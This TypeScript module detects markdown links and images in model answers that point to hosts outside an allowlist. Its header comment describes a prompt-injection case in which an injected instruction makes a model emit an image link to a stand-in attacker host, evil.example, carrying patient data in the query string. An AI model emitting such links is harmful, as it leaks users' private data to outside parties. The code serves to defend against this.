/**
 * Markdown links and images in an answer whose host is not on the allowlist: an injected
 * instruction can make a model emit `![x](https://evil.example/?q=<patient data>)`, which the
 * client's renderer fetches on its own. One forward scan, no backtracking regexes.
 */
export interface LinkHit {
  readonly start: number;
  readonly end: number;
  readonly image: boolean;
  readonly host: string;
}

const MAX_URL = 2048;
const URL_STOP = new Set([' ', '\t', '\n', '\r', ')', '>', '(', '[', ']', '"', "'"]);

export function hostAllowed(host: string, allowlist: readonly string[]): boolean {
  const h = host.toLowerCase().replace(/\.$/, '');
  return allowlist.some((a) => (a.startsWith('*.') ? h.endsWith(a.slice(1)) || h === a.slice(2) : h === a));
}

/** The host a URL would make a renderer contact, or undefined for relative/non-network URLs. */
export function networkHost(url: string): string | undefined {
  const scheme = /^([a-z][a-z0-9+.-]{0,20}):/i.exec(url)?.[1]?.toLowerCase();
  if (scheme === undefined && !url.startsWith('//')) return undefined;
  if (scheme !== undefined && !['http', 'https', 'ftp', 'ws', 'wss'].includes(scheme)) return undefined;
  try {
    return new URL(scheme === undefined ? `https:${url}` : url).hostname || undefined;
  } catch {
    return undefined;
  }
}

export function findLinks(text: string): LinkHit[] {
  const out: LinkHit[] = [];
  let open = -1;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (c === '\n') open = -1;
    else if (c === '[') open = i;
    else if (c === ']' && open >= 0 && text[i + 1] === '(') {
      const urlAt = skipSpaces(text, i + 2);
      const begin = text[urlAt] === '<' ? urlAt + 1 : urlAt;
      let end = begin;
      while (end < text.length && end - begin < MAX_URL && !URL_STOP.has(text[end] as string)) end++;
      const host = networkHost(text.slice(begin, end));
      const image = open > 0 && text[open - 1] === '!';
      if (host !== undefined) out.push({ start: image ? open - 1 : open, end, image, host });
      open = -1;
      i = Math.max(i, end - 1);
    }
  }
  // Reference-style definitions: `[1]: https://host/path`.
  const def = /^ {0,3}\[[^\]\n]{1,200}\]: {0,10}<?([^\s>]{1,2048})/gm;
  for (let m = def.exec(text); m; m = def.exec(text)) {
    const host = networkHost(m[1] ?? '');
    if (host !== undefined) out.push({ start: m.index, end: m.index + m[0].length, image: false, host });
  }
  return out;
}

function skipSpaces(text: string, at: number): number {
  let i = at;
  while (i < text.length && i - at < 10 && (text[i] === ' ' || text[i] === '\t')) i++;
  return i;
}
